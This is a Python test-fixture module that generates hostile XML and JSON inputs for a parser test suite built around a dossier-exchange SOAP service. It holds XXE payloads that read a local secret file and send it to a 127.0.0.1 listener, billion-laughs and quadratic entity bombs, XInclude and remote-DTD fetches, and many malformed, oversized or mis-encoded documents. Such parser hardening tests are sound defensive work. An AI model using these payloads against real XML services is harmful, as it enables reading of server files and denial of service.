"""Hostile documents for test_hostile.py, all made here.

A Doc is a name, its bytes, and what must become of it: refused with a place that the pattern finds,
taken, or (place None) either, as long as it stays within the bars.
"""

import collections
import json

Doc = collections.namedtuple("Doc", "name body place taken", defaults=(None, False))

CANARY = "CHIMHOANGYEN"  # in values only: it may appear in no answer, log, status or reason
BYTE = r"byte \d+|record \d+|data\[\d+\]|has \d+ bytes"
LINE = r"line \d+|has \d+ bytes"
SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
OWN = "http://hoso.provider.exch.sharedservice.dtt.vn/"

HTML = (b"<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body><h1>502</h1><br>"
        + CANARY.encode() + b"<p>&nbsp;</body></html>")


# ---- good dossiers, in each vocabulary ----

def dossier(code, **more):
    """Fields of DongBoHoSoMC."""
    return {"MaHoSo": code, "MaTTHC": "1.000005", "TenTTHC": "Thủ tục", "MaLinhVuc": "G12-TC04",
            "TenLinhVuc": "Hải quan", "KenhThucHien": "1", "ChuHoSo": "Nguyễn Văn An",
            "LoaiDoiTuong": "1", "HinhThuc": "0", "DonViXuLy": "UBND xã Y", "NoiNopHoSo": "2",
            "TrichYeuHoSo": "Hồ sơ thử", "NgayHenTra": "20261121093000",
            "NgayTiepNhan": "20261118093000", "TrangThaiHoSo": "4", **more}


def step(code, **more):
    return {"MaHoSo": code, "NguoiXuLy": "Trần Văn Bé", "ChucDanh": "Chuyên viên",
            "ThoiDiemXuLy": "20261118093000", "PhongBanXuLy": "Một cửa",
            "NoiDungXuLy": "Tiếp nhận", "TrangThai": "2", **more}


TEXTS_DOSSIER = ("MaHoSo", "MaTTHC", "TenTTHC", "MaLinhVuc", "TenLinhVuc", "KenhThucHien",
                 "SoBienNhan", "ChuHoSo", "LoaiDoiTuong", "MaDoiTuong", "SoGiayToChuHoSo", "Email",
                 "SoDienThoai", "TrichYeuHoSo", "TrangThaiHoSo", "HinhThuc", "DonViXuLy",
                 "NoiNopHoSo", "GhiChu", "Fax", "TruongLa")
TEXTS_STEP = ("MaHoSo", "NguoiXuLy", "ChucDanh", "PhongBanXuLy", "NoiDungXuLy", "TrangThai",
              "TruongLa")
DATES = ("NgayNopHoSo", "NgayTiepNhan", "NgayHenTra", "NgayTra", "NgayKetThucXuLy", "NgayTuChoi")
BAD_DATES = ("20260230093000", "00000000000000", "99991231235959", "20261118093000+07:00",
             "20261118093000Z", "2026-11-18T09:30:00", "20261301000000", "20261118243000",
             "20261118096000", "20261118", "18112026093000x", "-0261118093000", "gestern", "0")


def text(value):
    return json.dumps(value, ensure_ascii=False).encode()


def soap(rows=b"", before=b"", attributes=b"", inside=b""):
    """A reply to pullDocument: `before` in front of the root, `inside` in front of the rows."""
    return (before + b'<s:Envelope xmlns:s="' + SOAP.encode() + b'"' + attributes + b'><s:Body>'
            b'<h:pullDocumentResponse xmlns:h="' + OWN.encode() + b'"><return><errCode>0</errCode>'
            + inside + rows + b'</return></h:pullDocumentResponse></s:Body></s:Envelope>')


def soap_row(code, extra=b"", attributes=b"", name="Nguyễn Văn An", date="18/11/2026 09:30:00"):
    return (f'<maSoHoSo>{code}</maSoHoSo><maLoaiHoSo>1.000005</maLoaiHoSo>'
            f'<hoTenNguoiNop>{name}</hoTenNguoiNop><ngayNopHoSo>{date}</ngayNopHoSo>'
            '<documentStatus><onlineId>1</onlineId><trangThaiHienTai>2</trangThaiHienTai>'
            '<tenNguoiXuLyHienTai>Trần Văn Bé</tenNguoiXuLyHienTai>'
            '<ngayGioLuanChuyen>18/11/2026 10:00:00</ngayGioLuanChuyen></documentStatus>'
            ).encode().join((b"<ossDocument" + attributes + b">", extra + b"</ossDocument>"))


def drop(rows=b"", before=b"", attributes=b"", inside=b""):
    """A file for the spool."""
    return (before + b"<DanhSach" + attributes + b">" + inside + rows + b"</DanhSach>")


def drop_row(code, extra=b"", attributes=b""):
    fields = "".join(f"<{k}>{v}</{k}>" for k, v in dossier(code).items()).encode()
    return b"<HoSo" + attributes + b">" + fields + extra + b"</HoSo>"


# ---- XML ----

def numbered(form, count):
    return "".join(form % i for i in range(count)).encode()


def entities(form, row, secret, port):
    """What asks for something to be opened, or grows when it is read. All have a DOCTYPE."""
    def doctype(name, subset, use=b"&x;", outside=""):
        return Doc(name, form(row(use), before=f"<?xml version='1.0'?>\n<!DOCTYPE a {outside}"
                              f"[{subset}]>\n".encode()), r"line 2: a DOCTYPE")
    laughs = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    url = f"http://127.0.0.1:{port}"
    return [
        doctype("xxe-file", f'<!ENTITY x SYSTEM "file://{secret}">'),
        doctype("xxe-path", f'<!ENTITY x SYSTEM "{secret}">'),
        doctype("xxe-http", f'<!ENTITY x SYSTEM "{url}/x">'),
        doctype("xxe-public", f'<!ENTITY x PUBLIC "-//X//Y" "{url}/x">'),
        doctype("xxe-ftp", f'<!ENTITY x SYSTEM "ftp://127.0.0.1:{port}/x">'),
        doctype("parameter-entity", f'<!ENTITY % p SYSTEM "{url}/p"> %p;', b""),
        doctype("parameter-entity-inside",
                f'<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % e "<!ENTITY x SYSTEM '
                f"'{url}/?%f;'>\"> %e;"),
        doctype("external-dtd-http", "", b"", f'SYSTEM "{url}/a.dtd" '),
        doctype("external-dtd-file", "", b"", f'SYSTEM "file://{secret}" '),
        doctype("billion-laughs", laughs, b"&l9;"),
        doctype("quadratic-blow-up", f'<!ENTITY x "{"A" * 60000}">', b"&x;" * 20000),
        doctype("default-attributes", '<!ATTLIST a b CDATA "c">', b""),
        doctype("recursion", '<!ENTITY x "&y;"><!ENTITY y "&x;">'),
        doctype("notation", f'<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "{secret}" NDATA n>'),
        Doc("stylesheet", form(row(b""), before=f'<?xml-stylesheet href="{url}/s.xsl"?>'.encode())),
        Doc("schema-location", form(row(b""), attributes=(
            ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="urn:x {url}/s.xsd"').encode())),
        Doc("xinclude-text", form(row((
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
            f'href="file://{secret}"/>').encode()))),
        Doc("xinclude-http", form(row((
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            f'href="{url}/x.xml"/>').encode()))),
    ]


def floods(form, row):
    """What is large, deep or many. The second half is well-formed."""
    def inside(name, body, place=LINE):
        return Doc(name, form(row(body)), place)
    return [
        inside("attributes-100k", b"<a" + numbered(" a%d='1'", 100_000) + b"/>"),
        inside("attributes-300", b"<a" + numbered(" a%d='1'", 300) + b"/>"),
        inside("start-tag-100k", b"<a b='" + b"x" * 100_000 + b"'/>"),
        inside("depth-300", b"<a>" * 300 + b"</a>" * 300),
        inside("depth-200k", b"<a>" * 200_000 + b"</a>" * 200_000),
        inside("text-11m", b"<a>" + CANARY.encode() + b"x" * 11_000_000 + b"</a>"),
        inside("cdata-11m", b"<a><![CDATA[" + b"x" * 11_000_000 + b"]]></a>"),
        inside("comment-11m", b"<!--" + b"x" * 11_000_000 + b"-->", None),
        inside("namespaces-1000", b"<a" + numbered(" xmlns:n%d='u'", 1000) + b"/>"),
        inside("namespaces-nested", numbered("<a xmlns:n%d='u'>", 62) + numbered("</a>%.0s", 62),
               None),
        inside("namespaces-45k", numbered("<a xmlns:n%d='u'/>", 45_000), None),
        Doc("namespaces-1m", form(numbered("<a xmlns:n%d='u:v'/>", 1_000_000)), None),
        inside("elements-250k", b"<a/>" * 250_000, None),
        inside("elements-named-60k", numbered("<a%d/>", 60_000), None),
        Doc("elements-2m", form(b"<a/>" * 2_000_000), None),
        inside("cdata-80k", b"<a>" + b"<![CDATA[x]]>" * 80_000 + b"</a>", None),
        inside("cdata-empty-80k", b"<a>" + b"<![CDATA[]]>" * 80_000 + b"</a>", None),
        inside("comments-140k", b"<!---->" * 140_000, None),
        inside("instructions-200k", b"<?a?>" * 200_000, None),
        inside("references-150k", b"<a>" + b"&#65;" * 150_000 + b"</a>", None),
        Doc("comments-1m", form(b"<!---->" * 1_000_000), None),
    ]


def encodings(form, row):
    good = form(row(b""))
    declared = b"<?xml version='1.0' encoding='%s'?>"
    viet = "<ghiChu>Nguyễn Văn Ân</ghiChu>"
    return [
        Doc("utf16le", b"\xff\xfe" + good.decode().encode("utf-16-le"), LINE),
        Doc("utf16be", b"\xfe\xff" + good.decode().encode("utf-16-be"), LINE),
        Doc("utf16-no-mark", good.decode().encode("utf-16-le"), LINE),
        Doc("utf32", good.decode().encode("utf-32"), LINE),
        Doc("utf7", declared % b"UTF-7" + good, LINE),
        Doc("utf7-hidden", b"+ADw-a+AD4-", LINE),
        Doc("windows-1258", declared % b"windows-1258" + form(row(
            "<ghiChu>Nguy\u00ea\u0303n</ghiChu>".encode("cp1258"))), LINE),
        Doc("latin1-declared", declared % b"ISO-8859-1" + good, LINE),
        Doc("tcvn3-bytes", form(row(b"<ghiChu>Nguy\xd4n V\xa8n \xa2n</ghiChu>")), LINE),
        Doc("bogus-encoding", declared % b"x-nonsense" + good, LINE),
        Doc("overlong", form(row(b"<ghiChu>\xc0\xbcb\xc0\xbe</ghiChu>")), LINE),
        Doc("surrogates", form(row(b"<ghiChu>\xed\xa0\x80\xed\xb0\x80</ghiChu>")), LINE),
        Doc("nul-raw", form(row(b"<ghiChu>a\0" + CANARY.encode() + b"</ghiChu>")), LINE),
        Doc("nul-reference", form(row(b"<ghiChu>a&#0;b</ghiChu>")), LINE),
        Doc("nul-reference-hex", form(row(b"<ghiChu>a&#x0000;b</ghiChu>")), LINE),
        Doc("control", form(row(b"<ghiChu>a\x01b</ghiChu>")), LINE),
        Doc("mark-twice", b"\xef\xbb\xbf\xef\xbb\xbf" + good, LINE),
        Doc("mark", b"\xef\xbb\xbf" + good, None, True),
        Doc("utf8-declared", declared % b"utf-8" + form(row(viet.encode())), None, True),
    ]


def broken_xml(form, row):
    good = form(row(b""))
    secret = CANARY.encode()
    return [
        Doc("empty", b"", r"line \d+|ends too early|empty|no "),
        Doc("blank", b" \n\n ", LINE),
        Doc("garbage", bytes(range(1, 256)) * 40, LINE),
        Doc("half", good[:len(good) // 2], LINE + "|early"),
        Doc("html", HTML, r"line 1: a DOCTYPE"),
        Doc("html-plain", b"<html><body><p>" + secret + b"<br></body></html>", LINE),
        Doc("two-roots", good + good, LINE),
        Doc("tail", good + secret, LINE),
        Doc("unknown-entity", form(row(b"<a>&" + secret + b";</a>")), LINE),
        Doc("unknown-prefix", form(row(b"<" + secret + b":a/>")), LINE),
        Doc("crossed", form(row(b"<" + secret + b"></b>")), LINE),
        Doc("attribute-twice", form(row(b"<a " + secret + b"='1' " + secret + b"='2'/>")), LINE),
        Doc("no-quote", form(row(b"<a b=" + secret + b"/>")), LINE),
        Doc("less-than", form(row(b"<a b='<" + secret + b"'/>")), LINE),
        Doc("cdata-open", form(row(b"<![CDATA[" + secret)), LINE),
        Doc("cdata-end", form(row(b"<a>" + secret + b"]]></a>")), LINE),
        Doc("comment-dashes", form(row(b"<!-- " + secret + b" -- -->")), LINE),
        Doc("instruction-xml", form(row(b"<?xml version='1.0'?>")), LINE),
        Doc("json", text([dossier("H56.31.25-261118-9999")]), LINE),
    ]


# ---- JSON ----

# Values that stand where any value may stand. Kept under their own names; the idea of a table of
# things to take and things to refuse is that of the public suites, the cases are our own.
TAKEN = [
    "null", "true", "false", "0", "-0", "1", "-1", "10", "0.5", "-0.5", "1e2", "1E2", "1e+2", "1e-2",
    "1.5e3", "0e1", "0e+1", "123456.789", "9007199254740992", "-9007199254740992", "1e22",
    "1.7976931348623157e308", "5e-324", '""', '" "', '"a"', '"\\""', '"\\\\"', '"\\/"',
    '"\\b\\f\\n\\r\\t"', '"\\u0041"', '"\\u00e9"', '"\\u1ec5"', '"\\u12aB"', '"\\ud83d\\ude00"',
    '"\\udbff\\udfff"', '"\\uffff"', '"\\u2028"', '"\\u0001"', '"\\\\u0000"', '"a/*b*/"', '"\x7f"',
    '"Nguyễn"', '"😀"', '"\u2028\u2029"', '"\uffff"', '"\U0010ffff"', "[]", "{}", "[[]]", "[{}]",
    '{"a":{}}', "[1,2]", "[ 1 , 2 ]", "\t[\n1\r]", '{"":0}', '{"a":1,"A":1}', '{"a":1,"b":1}',
    '{"a":{"a":1}}', '[null,null]', '{"a":[{"b":[{}]}]}', '"' + "x" * 5000 + '"',
    '{"min":-1.0e+28,"max":1.0e+28}', '[[[[[[[[[[1]]]]]]]]]]',
]
REFUSED = [
    # structure
    "", "[", "]", "{", "}", "[1", "[1,", "[1,]", "[,1]", "[,]", "[1,,2]", "[1 2]", "[1}", "{]",
    '{"a"}', '{"a":}', '{"a":1,}', '{,"a":1}', '{"a":1,,"b":2}', '{"a" 1}', '{"a"::1}', "{a:1}",
    "{'a':1}", "{1:1}", "{null:1}", '{"a":1 "b":2}', "[1]]", "[[1]", "()", "<a/>", "[1;2]", '["a":1]',
    "[1,\n2", "*", "a", "/*c*/1", "1//c", "#1",
    # words
    "nul", "nulll", "True", "NULL", "tru", "truex", "undefined", "NaN", "-NaN", "Infinity",
    "-Infinity", "inf",
    # numbers
    "01", "-01", "00", "+1", "-", "--1", "1.", ".5", "-.5", "1.e1", "1e", "1e+", "1e1.5", "1ee2",
    "1..2", "0x10", "1_000", "1,5,", "１", "1a", "1e999", "-1e999", "1e-999", "9007199254740993",
    "-9007199254740993", "9007199254740992.0", "99999999999999999999", "1" + "0" * 400,
    "0." + "1" * 80,
    # strings
    '"', '"a', "'a'", '"\\"', '"\\x41"', '"\\a"', '"\\u"', '"\\u12"', '"\\u12G4"', '"\\U0041"',
    '"\\u0000"', '"a\\u0000b"', '"\\ud800"', '"\\udc00"', '"\\ud800\\u0041"', '"\\ud800\\ud800"',
    '"\\udc00\\ud800"', '"a\tb"', '"a\nb"', '"a\x01b"', '"a\x00b"', "\x00", '"a"b',
    b'"\x80"', b'"\xff"', b'"\xc3"', b'"\xc0\xaf"', b'"\xe0\x80\xaf"', b'"\xf0\x80\x80\xaf"',
    b'"\xed\xa0\x80"', b'"\xed\xa0\xbd\xed\xb8\x80"', b'"\xf4\x90\x80\x80"', b'"\xf5\x80\x80\x80"',
    b'"\xe1\xbb"', b'"\xf8\x88\x80\x80\x80"', b'"Nguy\xd4n V\xa8n \xa2n"', b"\xef\xbb\xbf1",
    b"\xc2\xa01",
    # keys
    '{"a":1,"a":2}', '{"a":1,"a":1}', '{"a":1,"b":2,"a":3}', '{"a":1,"\\u0061":2}',
    '{"é":1,"\\u00e9":2}', '{"":1,"":2}', '[{"x":{"a":1,"a":2}}]', '{"a\\u0000":1}', '{"\\ud800":1}',
    b'{"\xff":1}',
]


def refused_values():
    return [c if isinstance(c, bytes) else c.encode() for c in REFUSED]


def nested(total, around):
    """A value that makes a document of this depth, standing inside of so many levels."""
    return b"[" * (total - around) + b"]" * (total - around)


def broken_json(wrap, good, around):
    """wrap puts a value into a good dossier's unknown field, inside of so many brackets; good is a
    whole good document."""
    secret = CANARY.encode()
    return [
        Doc("empty", b"", r"byte 0|early"),
        Doc("blank", b" \r\n\t ", BYTE),
        Doc("garbage", bytes(range(256)) * 40, BYTE),
        Doc("half", good[:len(good) // 2], BYTE),
        Doc("html", HTML, BYTE),
        Doc("xml", b"<?xml version='1.0'?><a>" + secret + b"</a>", BYTE),
        Doc("tail", good + b" " + secret, BYTE),
        Doc("twice", good + good, BYTE),
        Doc("nul-tail", good + b"\0", BYTE),
        Doc("nul-head", b"\0" + good, BYTE),
        Doc("utf16", b"\xff\xfe" + good.decode().encode("utf-16-le"), BYTE),
        Doc("utf16-no-mark", good.decode().encode("utf-16-be"), BYTE),
        Doc("mark-twice", b"\xef\xbb\xbf\xef\xbb\xbf" + good, BYTE),
        Doc("half-mark", b"\xef\xbb" + good, BYTE),
        Doc("secret-in-value", wrap(b'"' + secret + b'\x01"'), BYTE),
        Doc("secret-as-word", wrap(secret), BYTE),
        Doc("secret-key-twice", wrap(b'{"' + secret + b'":1,"' + secret + b'":2}'), BYTE),
        Doc("depth-33", wrap(nested(33, around)), BYTE),
        Doc("depth-1000", wrap(nested(1000, around)), BYTE),
        Doc("depth-32", wrap(nested(32, around)), None, True),
        Doc("depth-31", wrap(nested(31, around)), None, True),
    ]


def big_json(wrap, rows):
    """rows puts a list of rows, without its brackets, where the list stands."""
    return [
        Doc("depth-2m", wrap(b"[" * 2_000_000), BYTE),
        Doc("objects-2m", wrap(b'{"a":' * 2_000_000), BYTE),
        Doc("bare-depth-2m", b"[" * 2_000_000, BYTE),
        Doc("array-1m", wrap(b"[" + b"1," * 999_999 + b"1]"), BYTE),
        Doc("array-300k", wrap(b"[" + b"1," * 299_999 + b"1]"), None),
        Doc("objects-150k", wrap(b"[" + b"{}," * 149_999 + b"{}]"), None),
        Doc("keys-60k", wrap(b"{" + numbered('"k%d":1,', 60_000) + b'"z":1}'), None),
        Doc("keys-alike", wrap(b"{" + numbered('"\\u006b%d":1,', 50_000) + b'"k1":1}'), BYTE),
        Doc("rows-numbers-1m", rows(b"1," * 999_999 + b"1"), BYTE + "|data"),
        Doc("rows-empty-1m", rows(b"{}," * 999_999 + b"{}"), None),
        Doc("string-64m", wrap(b'"' + b"x" * 64_000_000 + b'"'), BYTE),
        Doc("escapes-900k", wrap(b'"' + b"\\u0041" * 150_000 + b'"'), None),
        Doc("blank-8m", b" " * 8_000_000 + b"x", BYTE),
    ]
